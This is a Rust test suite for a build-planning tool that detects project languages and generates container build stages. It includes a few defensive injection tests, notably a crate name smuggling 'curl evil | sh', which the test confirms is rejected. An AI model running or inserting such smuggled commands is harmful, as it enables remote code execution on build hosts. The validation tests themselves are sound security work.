use kiln::detect::AppContext;
use kiln::overrides::BuildOverrides;
use kiln::project::{DirListing, ProjectFile, ProjectFiles};
use kiln::providers::cpp::CppProvider;
use kiln::providers::deno::DenoProvider;
use kiln::providers::dotnet::DotnetProvider;
use kiln::providers::elixir::ElixirProvider;
use kiln::providers::gleam::GleamProvider;
use kiln::providers::go::GoProvider;
use kiln::providers::java::JavaProvider;
use kiln::providers::php::PhpProvider;
use kiln::providers::python::PythonProvider;
use kiln::providers::ruby::RubyProvider;
use kiln::providers::rust_lang::RustProvider;
use kiln::providers::shell::ShellProvider;
use kiln::providers::static_site::StaticSiteProvider;
use kiln::providers::Provider;

fn project(files: &[(&str, &str)]) -> ProjectFiles {
    let entries = files.iter().filter(|(p, _)| !p.contains('/')).map(|(p, _)| p.to_string()).collect();
    ProjectFiles {
        root: "/tmp/project".to_string(),
        exists: true,
        files: files
            .iter()
            .map(|(p, c)| ProjectFile { path: p.to_string(), content: Some(c.to_string()) })
            .collect(),
        listings: vec![DirListing { dir: ".".to_string(), entries }],
    }
}

fn ctx(files: &[(&str, &str)]) -> AppContext {
    AppContext::new(project(files)).unwrap()
}

fn ctx_with(files: &[(&str, &str)], overrides: BuildOverrides) -> AppContext {
    AppContext::with_overrides(project(files), overrides).unwrap()
}

// C/C++

#[test]
fn detects_cmake_project() {
    assert!(CppProvider.detect(&ctx(&[("CMakeLists.txt", "project(myapp)")])));
}

#[test]
fn detects_makefile_project() {
    assert!(CppProvider.detect(&ctx(&[("Makefile", "all: app")])));
}

#[test]
fn cmake_plan() {
    let plan = CppProvider.plan(&ctx(&[("CMakeLists.txt", "project(myapp)")])).unwrap();
    assert_eq!(plan.provider, "cpp");
    assert_eq!(plan.stages.len(), 2);
    assert!(plan.stages[0].commands[0].run.contains("cmake"));
    assert!(plan.stages[0].commands[0].run.contains("install"));
    assert!(plan.stages[0].commands[0].run.contains("cmake -B build"));
    assert_eq!(plan.start_command.as_deref(), Some("./app"));
    assert_eq!(plan.stages[1].copy_from[0].dest, "/app/app");
    assert_eq!(plan.port, Some(8080));
}

#[test]
fn cmake_binary_name_derived_from_add_executable() {
    let c = ctx(&[(
        "CMakeLists.txt",
        "cmake_minimum_required(VERSION 3.10)\nproject(demo)\nadd_executable(server main.cpp)\n",
    )]);
    let plan = CppProvider.plan(&c).unwrap();
    assert_eq!(plan.start_command.as_deref(), Some("./server"));
    assert_eq!(plan.stages[1].copy_from[0].src, "/app/build/server");
    assert_eq!(plan.stages[1].copy_from[0].dest, "/app/server");
}

#[test]
fn cmake_falls_back_to_app_without_add_executable() {
    let plan = CppProvider.plan(&ctx(&[("CMakeLists.txt", "project(myapp)")])).unwrap();
    assert_eq!(plan.start_command.as_deref(), Some("./app"));
}

#[test]
fn makefile_plan() {
    let plan = CppProvider.plan(&ctx(&[("Makefile", "all: app")])).unwrap();
    assert!(plan.stages[0].commands[0].run.contains("make"));
    assert_eq!(plan.start_command.as_deref(), Some("./app"));
}

#[test]
fn cmake_target_matched_in_any_case_and_unsafe_names_fall_back() {
    let plan = CppProvider.plan(&ctx(&[("CMakeLists.txt", "ADD_EXECUTABLE(  Tool)\n")])).unwrap();
    assert_eq!(plan.start_command.as_deref(), Some("./Tool"));
    let plan = CppProvider.plan(&ctx(&[("CMakeLists.txt", "add_executable(${NAME} a.c)")])).unwrap();
    assert_eq!(plan.start_command.as_deref(), Some("./app"));
    assert_eq!(plan.stages[1].copy_from[0].src, "/app/build/app");
    let plan = CppProvider.plan(&ctx(&[("Makefile", "all:")])).unwrap();
    assert_eq!(plan.stages[1].copy_from[0].src, "/app/app");
    assert_eq!(plan.stages[0].commands[0].run, "make");
}

// Deno

#[test]
fn detects_deno_project() {
    assert!(DenoProvider.detect(&ctx(&[("deno.json", "{}")])));
}

#[test]
fn detects_deno_jsonc() {
    assert!(DenoProvider.detect(&ctx(&[("deno.jsonc", "{}")])));
}

#[test]
fn deno_plan_single_stage() {
    let c = ctx(&[("deno.json", r#"{"tasks":{"start":"deno run --allow-net server.ts"}}"#)]);
    let plan = DenoProvider.plan(&c).unwrap();
    assert_eq!(plan.provider, "deno");
    assert_eq!(plan.stages.len(), 1);
    assert_eq!(plan.start_command.as_deref(), Some("deno task start"));
    assert_eq!(plan.port, Some(8000));
}

#[test]
fn deno_fallback_start_command() {
    let plan = DenoProvider.plan(&ctx(&[("deno.json", "{}")])).unwrap();
    assert_eq!(plan.start_command.as_deref(), Some("deno run --allow-net main.ts"));
}

// .NET

#[test]
fn detects_csproj() {
    assert!(DotnetProvider.detect(&ctx(&[("MyApp.csproj", "<Project/>")])));
}

#[test]
fn detects_fsproj() {
    assert!(DotnetProvider.detect(&ctx(&[("MyApp.fsproj", "<Project/>")])));
}

#[test]
fn dotnet_plan_extracts_project_name() {
    let plan = DotnetProvider.plan(&ctx(&[("WebApi.csproj", "<Project/>")])).unwrap();
    assert_eq!(plan.provider, "dotnet");
    assert_eq!(plan.stages.len(), 2);
    assert_eq!(plan.start_command.as_deref(), Some("dotnet WebApi.dll"));
    assert_eq!(plan.port, Some(8080));
}

#[test]
fn dotnet_prefers_csproj_and_rejects_unsafe_names() {
    let plan = DotnetProvider.plan(&ctx(&[("Lib.fsproj", ""), ("Api.csproj", "")])).unwrap();
    assert_eq!(plan.start_command.as_deref(), Some("dotnet Api.dll"));
    let plan = DotnetProvider.plan(&ctx(&[("All.sln", "")])).unwrap();
    assert_eq!(plan.start_command.as_deref(), Some("dotnet app.dll"));
    assert!(DotnetProvider.plan(&ctx(&[("a;b.csproj", "")])).is_err());
}

// Elixir

#[test]
fn detects_elixir_project() {
    assert!(ElixirProvider.detect(&ctx(&[("mix.exs", "defmodule MyApp do end")])));
}

#[test]
fn elixir_plan_launches_release_binary_not_mix() {
    let c = ctx(&[(
        "mix.exs",
        "defmodule MyApp.MixProject do\n  def project do\n    [app: :my_app, version: \"0.1.0\"]\n  end\nend",
    )]);
    let plan = ElixirProvider.plan(&c).unwrap();
    assert_eq!(plan.provider, "elixir");
    assert_eq!(plan.stages.len(), 2);
    assert_eq!(plan.start_command.as_deref(), Some("/app/bin/my_app start"));
    assert_eq!(plan.port, Some(4000));
    let runtime = plan.stages.iter().find(|s| s.name == "runtime").unwrap();
    assert_eq!(runtime.copy_from[0].src, "/app/_build/prod/rel/my_app");
    assert!(runtime.commands[0].run.contains("libssl3"));
}

#[test]
fn app_name_falls_back_when_absent() {
    let plan = ElixirProvider.plan(&ctx(&[("mix.exs", "defmodule MyApp do end")])).unwrap();
    assert_eq!(plan.start_command.as_deref(), Some("/app/bin/app start"));
}

#[test]
fn phoenix_release_sets_phx_server() {
    let c = ctx(&[(
        "mix.exs",
        "defmodule MyApp.MixProject do\n  def project, do: [app: :web]\n  defp deps do [{:phoenix, \"~> 1.7\"}] end\nend",
    )]);
    let plan = ElixirProvider.plan(&c).unwrap();
    assert_eq!(plan.start_command.as_deref(), Some("PHX_SERVER=true /app/bin/web start"));
}

#[test]
fn elixir_app_key_must_stand_alone() {
    let c = ctx(&[("mix.exs", "[myapp: :no, applications: :no, app:   :real_one]")]);
    let plan = ElixirProvider.plan(&c).unwrap();
    assert_eq!(plan.start_command.as_deref(), Some("/app/bin/real_one start"));
    let c = ctx(&[("mix.exs", "app: \"str\"")]);
    let plan = ElixirProvider.plan(&c).unwrap();
    assert_eq!(plan.start_command.as_deref(), Some("/app/bin/app start"));
}

// Gleam

#[test]
fn detects_gleam_project() {
    assert!(GleamProvider.detect(&ctx(&[("gleam.toml", "name = \"myapp\"")])));
}

#[test]
fn gleam_plan_two_stages() {
    let plan = GleamProvider.plan(&ctx(&[("gleam.toml", "name = \"myapp\"")])).unwrap();
    assert_eq!(plan.provider, "gleam");
    assert_eq!(plan.stages.len(), 2);
    assert_eq!(plan.stages[0].name, "build");
    assert_eq!(plan.stages[1].name, "runtime");
    assert_eq!(plan.stages[1].base_image, "erlang:27-slim");
    assert_eq!(plan.start_command.as_deref(), Some("/app/entrypoint.sh run"));
    assert_eq!(plan.port, Some(8080));
}

// Go

#[test]
fn detects_go_project() {
    assert!(GoProvider.detect(&ctx(&[("go.mod", "module github.com/user/myapp\n\ngo 1.24\n")])));
}

#[test]
fn go_plan_stages() {
    let plan = GoProvider.plan(&ctx(&[("go.mod", "module github.com/user/myapp\n\ngo 1.24\n")])).unwrap();
    assert_eq!(plan.stages.len(), 2);
    assert_eq!(plan.stages[0].name, "build");
    assert_eq!(plan.stages[1].name, "runtime");
}

#[test]
fn go_binary_name_from_module() {
    let plan = GoProvider.plan(&ctx(&[("go.mod", "module github.com/user/myapp\n\ngo 1.24\n")])).unwrap();
    assert_eq!(plan.start_command.as_deref(), Some("/bin/myapp"));
}

#[test]
fn module_cache_stays_in_a_mount_no_cross_stage_copy() {
    let plan = GoProvider.plan(&ctx(&[("go.mod", "module example.com/app\n")])).unwrap();
    let build = plan.stages.iter().find(|s| s.name == "build").unwrap();
    assert!(build.copy_from.is_empty());
    assert!(build.commands[0].cache_mounts.contains(&"/go/pkg/mod".to_string()));
    assert!(build.commands[0].cache_mounts.contains(&"/root/.cache/go-build".to_string()));
    let runtime = plan.stages.iter().find(|s| s.name == "runtime").unwrap();
    assert_eq!(runtime.copy_from[0].src, "/bin/app");
}

#[test]
fn go_uses_distroless_runtime() {
    let plan = GoProvider.plan(&ctx(&[("go.mod", "module example.com/app\n")])).unwrap();
    assert!(plan.stages[1].base_image.contains("distroless"));
}

#[test]
fn go_module_without_path_and_unsafe_module() {
    let plan = GoProvider.plan(&ctx(&[("go.mod", "go 1.22\nmodule  svc \r\n")])).unwrap();
    assert_eq!(plan.start_command.as_deref(), Some("/bin/svc"));
    assert_eq!(plan.stages[0].commands[0].run, "CGO_ENABLED=0 go build -o /bin/svc .");
    let plan = GoProvider.plan(&ctx(&[("go.mod", "go 1.22\n")])).unwrap();
    assert_eq!(plan.start_command.as_deref(), Some("/bin/app"));
    assert!(GoProvider.plan(&ctx(&[("go.mod", "module x/a;b\n")])).is_err());
}

// Java

#[test]
fn detects_maven() {
    assert!(JavaProvider.detect(&ctx(&[("pom.xml", "<project/>")])));
}

#[test]
fn detects_gradle() {
    assert!(JavaProvider.detect(&ctx(&[("build.gradle", "")])));
}

#[test]
fn maven_plan() {
    let plan = JavaProvider.plan(&ctx(&[("pom.xml", "<project/>")])).unwrap();
    assert_eq!(plan.provider, "java");
    assert_eq!(plan.stages.len(), 2);
    assert!(plan.stages[0].commands[0].run.contains("mvn"));
    assert!(plan.stages[0].commands[0].cache_mounts.contains(&"/root/.m2".to_string()));
    assert_eq!(plan.start_command.as_deref(), Some("java -jar app.jar"));
    assert_eq!(plan.port, Some(8080));
}

#[test]
fn gradle_plan() {
    let plan = JavaProvider.plan(&ctx(&[("build.gradle.kts", "")])).unwrap();
    assert!(plan.stages[0].commands[0].run.contains("gradle"));
    assert!(plan.stages[0].commands[0].cache_mounts.contains(&"/root/.gradle".to_string()));
}

#[test]
fn jar_copy_excludes_plain_and_aux_jars() {
    let plan = JavaProvider.plan(&ctx(&[("build.gradle", "")])).unwrap();
    let copy = &plan.stages[0].commands[1].run;
    assert!(copy.contains("/app/build/libs/*.jar"));
    assert!(copy.contains("-(plain|sources|javadoc)"));
    assert!(copy.ends_with("/app/app.jar"));
    assert_eq!(
        copy,
        "cp \"$(ls -S /app/build/libs/*.jar | grep -Ev -- '-(plain|sources|javadoc)\\.jar$' | head -1)\" /app/app.jar"
    );
}

// PHP

#[test]
fn detects_php_project() {
    assert!(PhpProvider.detect(&ctx(&[("composer.json", "{}")])));
}

#[test]
fn php_plan_two_stages() {
    let plan = PhpProvider.plan(&ctx(&[("composer.json", "{}")])).unwrap();
    assert_eq!(plan.provider, "php");
    assert_eq!(plan.stages.len(), 2);
    assert_eq!(plan.stages[0].name, "deps");
    assert_eq!(plan.stages[1].name, "runtime");
    assert!(plan.start_command.is_none());
    assert_eq!(plan.port, Some(8080));
}

#[test]
fn detects_laravel() {
    let plan = PhpProvider.plan(&ctx(&[("composer.json", r#"{"require":{"laravel/framework":"^11.0"}}"#)])).unwrap();
    assert!(plan.start_command.as_ref().unwrap().contains("artisan"));
}

// Python

#[test]
fn detects_requirements_txt() {
    assert!(PythonProvider.detect(&ctx(&[("requirements.txt", "flask==3.0")])));
}

#[test]
fn detects_pyproject_toml() {
    assert!(PythonProvider.detect(&ctx(&[("pyproject.toml", "[project]")])));
}

#[test]
fn pip_plan() {
    let plan = PythonProvider.plan(&ctx(&[("requirements.txt", "flask==3.0"), ("app.py", "")])).unwrap();
    assert_eq!(plan.provider, "python");
    assert_eq!(plan.stages.len(), 2);
    assert!(plan.stages[0].commands[0].run.contains("pip install"));
}

#[test]
fn detects_flask_start_command() {
    let plan = PythonProvider.plan(&ctx(&[("requirements.txt", "flask==3.0"), ("app.py", "")])).unwrap();
    assert!(plan.start_command.as_ref().unwrap().contains("gunicorn"));
    assert!(plan.start_command.as_ref().unwrap().contains("app:app"));
}

#[test]
fn detects_fastapi_start_command() {
    let plan = PythonProvider.plan(&ctx(&[("requirements.txt", "fastapi==0.115"), ("main.py", "")])).unwrap();
    assert!(plan.start_command.as_ref().unwrap().contains("uvicorn"));
    assert!(plan.start_command.as_ref().unwrap().contains("main:app"));
}

#[test]
fn detects_uv() {
    let plan =
        PythonProvider.plan(&ctx(&[("pyproject.toml", "[project]"), ("uv.lock", ""), ("main.py", "")])).unwrap();
    assert!(plan.stages[0].commands[0].run.contains("uv sync"));
}

#[test]
fn python_start_commands_and_targets() {
    let plan = PythonProvider.plan(&ctx(&[("requirements.txt", "Django>=5"), ("manage.py", "")])).unwrap();
    assert_eq!(
        plan.start_command.as_deref(),
        Some("gunicorn --bind 0.0.0.0:${PORT:-8000} config.wsgi:application")
    );
    let plan = PythonProvider.plan(&ctx(&[("pyproject.toml", "[project]"), ("server.py", "")])).unwrap();
    assert_eq!(plan.start_command.as_deref(), Some("python server.py"));
    let plan = PythonProvider.plan(&ctx(&[("requirements.txt", "flask")])).unwrap();
    assert_eq!(plan.start_command.as_deref(), Some("gunicorn --bind 0.0.0.0:${PORT:-8000} app:app"));
    let plan = PythonProvider.plan(&ctx(&[("pyproject.toml", "[tool.poetry]\n")])).unwrap();
    assert_eq!(plan.stages[0].commands[0].run, "pip install poetry && poetry install --no-interaction --no-ansi");
    assert_eq!(plan.stages[1].copy_from[0].src, "/usr/local/lib/python3.13/site-packages");
    let plan = PythonProvider.plan(&ctx(&[("pyproject.toml", ""), ("uv.lock", "")])).unwrap();
    assert_eq!(plan.stages[1].copy_from[0].src, "/app/.venv");
    assert_eq!(plan.stages[0].copy_files.len(), 2);
}

// Ruby

#[test]
fn detects_ruby_project() {
    assert!(RubyProvider.detect(&ctx(&[("Gemfile", "source 'https://rubygems.org'")])));
}

#[test]
fn ruby_plan_two_stages() {
    let plan = RubyProvider.plan(&ctx(&[("Gemfile", "source 'https://rubygems.org'")])).unwrap();
    assert_eq!(plan.provider, "ruby");
    assert_eq!(plan.stages.len(), 2);
    assert_eq!(plan.stages[0].name, "deps");
    assert_eq!(plan.stages[1].name, "runtime");
    assert_eq!(plan.start_command.as_deref(), Some("ruby main.rb"));
    assert_eq!(plan.port, Some(3000));
}

#[test]
fn gems_land_in_the_image_layer_not_a_cache_mount() {
    let plan = RubyProvider.plan(&ctx(&[("Gemfile", "source 'https://rubygems.org'")])).unwrap();
    let deps = plan.stages.iter().find(|s| s.name == "deps").unwrap();
    assert!(deps.commands[0].cache_mounts.is_empty());
    assert_eq!(deps.copy_files.len(), 1);
    assert_eq!(deps.copy_files[0].src, "Gemfile Gemfile.lock*");
    let runtime = plan.stages.iter().find(|s| s.name == "runtime").unwrap();
    assert_eq!(runtime.copy_from[0].src, "/usr/local/bundle");
}

#[test]
fn detects_rails() {
    let plan = RubyProvider.plan(&ctx(&[("Gemfile", "source 'https://rubygems.org'\ngem 'rails'")])).unwrap();
    assert_eq!(plan.start_command.as_deref(), Some("bundle exec rails server -b 0.0.0.0"));
}

// Rust

#[test]
fn rejects_injection_in_cargo_name() {
    let c = ctx(&[("Cargo.toml", "[package]\nname = \"app; curl evil | sh\"\nversion = \"0.1.0\"\n")]);
    assert!(RustProvider.plan(&c).is_err(), "shell metachars in crate name must be rejected");
}

#[test]
fn rust_version_override_changes_build_image() {
    let c = ctx_with(
        &[("Cargo.toml", "[package]\nname = \"app\"\nversion = \"0.1.0\"\n")],
        BuildOverrides { version: Some("1.82".to_string()), ..Default::default() },
    );
    let plan = RustProvider.plan(&c).unwrap();
    assert!(plan.stages.iter().any(|s| s.base_image == "rust:1.82"));
}

#[test]
fn rust_toolchain_toml_sets_version() {
    let c = ctx(&[
        ("Cargo.toml", "[package]\nname = \"app\"\nversion = \"0.1.0\"\n"),
        ("rust-toolchain.toml", "[toolchain]\nchannel = \"1.81\"\n"),
    ]);
    let plan = RustProvider.plan(&c).unwrap();
    assert!(plan.stages.iter().any(|s| s.base_image == "rust:1.81"));
}

#[test]
fn non_numeric_toolchain_channel_falls_back_to_default() {
    let c = ctx(&[
        ("Cargo.toml", "[package]\nname = \"app\"\nversion = \"0.1.0\"\n"),
        ("rust-toolchain.toml", "[toolchain]\nchannel = \"stable\"\n"),
    ]);
    let plan = RustProvider.plan(&c).unwrap();
    assert!(plan.stages.iter().any(|s| s.base_image == "rust:1.85"));
}

#[test]
fn detects_rust_project() {
    assert!(RustProvider.detect(&ctx(&[("Cargo.toml", "[package]\nname = \"myapp\"\nversion = \"0.1.0\"\n")])));
}

#[test]
fn rust_binary_name() {
    let c = ctx(&[("Cargo.toml", "[package]\nname = \"my-service\"\nversion = \"0.1.0\"\n")]);
    let plan = RustProvider.plan(&c).unwrap();
    assert_eq!(plan.start_command.as_deref(), Some("/usr/local/bin/my-service"));
}

#[test]
fn binary_is_copied_out_of_the_target_cache_mount() {
    let c = ctx(&[("Cargo.toml", "[package]\nname = \"svc\"\nversion = \"0.1.0\"\n")]);
    let plan = RustProvider.plan(&c).unwrap();
    let build = plan.stages.iter().find(|s| s.name == "build").unwrap();
    assert!(build.commands[0].run.contains("cp target/release/svc /svc"));
    let runtime = plan.stages.iter().find(|s| s.name == "runtime").unwrap();
    let copied = &runtime.copy_from[0];
    assert_eq!(copied.src, "/svc");
    assert!(!copied.src.contains("/target/"));
}

#[test]
fn rust_cache_mounts() {
    let c = ctx(&[("Cargo.toml", "[package]\nname = \"app\"\nversion = \"0.1.0\"\n")]);
    let plan = RustProvider.plan(&c).unwrap();
    let build = &plan.stages[0];
    assert!(build.commands[0].cache_mounts.contains(&"/usr/local/cargo/registry".to_string()));
    assert!(build.commands[0].cache_mounts.contains(&"/app/target".to_string()));
}

#[test]
fn rust_bin_target_and_plain_toolchain_file() {
    let c = ctx(&[
        ("Cargo.toml", "[package]\nname = \"lib\"\n\n[[bin]]\nname = \"tool\"\npath = \"src/main.rs\"\n"),
        ("rust-toolchain", "1.80.1\n"),
    ]);
    let plan = RustProvider.plan(&c).unwrap();
    assert_eq!(plan.start_command.as_deref(), Some("/usr/local/bin/tool"));
    assert_eq!(plan.stages[0].base_image, "rust:1.80.1");
    let plan = RustProvider.plan(&ctx(&[("Cargo.toml", "not toml [")])).unwrap();
    assert_eq!(plan.start_command.as_deref(), Some("/usr/local/bin/app"));
}

// Shell

#[test]
fn detects_main_sh() {
    assert!(ShellProvider.detect(&ctx(&[("main.sh", "#!/bin/bash")])));
}

#[test]
fn detects_start_sh() {
    assert!(ShellProvider.detect(&ctx(&[("start.sh", "#!/bin/bash")])));
}

#[test]
fn shell_plan_single_stage() {
    let plan = ShellProvider.plan(&ctx(&[("main.sh", "#!/bin/bash")])).unwrap();
    assert_eq!(plan.provider, "shell");
    assert_eq!(plan.stages.len(), 1);
    assert_eq!(plan.start_command.as_deref(), Some("bash main.sh"));
    assert!(plan.port.is_none());
    let plan = ShellProvider.plan(&ctx(&[("start.sh", "")])).unwrap();
    assert_eq!(plan.stages[0].commands[0].run, "chmod +x start.sh");
}

// Static sites

#[test]
fn detects_static_site() {
    assert!(StaticSiteProvider.detect(&ctx(&[("index.html", "<html></html>")])));
}

#[test]
fn static_plan_nginx() {
    let plan = StaticSiteProvider.plan(&ctx(&[("index.html", "<html></html>")])).unwrap();
    assert_eq!(plan.provider, "static");
    assert_eq!(plan.stages.len(), 1);
    assert_eq!(plan.stages[0].base_image, "nginx:alpine");
    assert!(plan.start_command.is_none());
    assert_eq!(plan.port, Some(80));
}

// Version files named in the documentation

#[test]
fn go_directive_and_tool_files_pin_the_toolchain() {
    let plan = GoProvider.plan(&ctx(&[("go.mod", "module example.com/app\n\ngo 1.22.3\n")])).unwrap();
    assert_eq!(plan.stages[0].base_image, "golang:1.22.3");
    let plan = GoProvider.plan(&ctx(&[("go.mod", "module example.com/app\n"), (".tool-versions", "golang 1.23\n")])).unwrap();
    assert_eq!(plan.stages[0].base_image, "golang:1.23");
    let plan = GoProvider.plan(&ctx(&[("go.mod", "module example.com/app\n")])).unwrap();
    assert_eq!(plan.stages[0].base_image, "golang:1.24");
    let c = ctx_with(&[("go.mod", "module a\ngo 1.22\n")], BuildOverrides { version: Some("1.21".to_string()), ..Default::default() });
    assert_eq!(GoProvider.plan(&c).unwrap().stages[0].base_image, "golang:1.21");
}

#[test]
fn python_version_file_pins_images_and_site_packages() {
    let plan = PythonProvider.plan(&ctx(&[("requirements.txt", ""), (".python-version", "3.12.1\n")])).unwrap();
    assert_eq!(plan.stages[0].base_image, "python:3.12.1");
    assert_eq!(plan.stages[1].base_image, "python:3.12.1-slim");
    assert_eq!(plan.stages[1].copy_from[0].src, "/usr/local/lib/python3.12/site-packages");
    let plan = PythonProvider.plan(&ctx(&[("requirements.txt", "")])).unwrap();
    assert_eq!(plan.stages[0].base_image, "python:3.13");
    assert_eq!(plan.stages[1].base_image, "python:3.13-slim");
    let c = ctx_with(&[("requirements.txt", "")], BuildOverrides { version: Some("$(x)".to_string()), ..Default::default() });
    assert!(PythonProvider.plan(&c).is_err());
}

#[test]
fn ruby_version_file_pins_images() {
    let plan = RubyProvider.plan(&ctx(&[("Gemfile", ""), (".ruby-version", "3.2.2\n")])).unwrap();
    assert_eq!(plan.stages[0].base_image, "ruby:3.2.2");
    assert_eq!(plan.stages[1].base_image, "ruby:3.2.2-slim");
    let plan = RubyProvider.plan(&ctx(&[("Gemfile", ""), (".ruby-version", "ruby-3.2.2\n")])).unwrap();
    assert_eq!(plan.stages[0].base_image, "ruby:3.3");
}
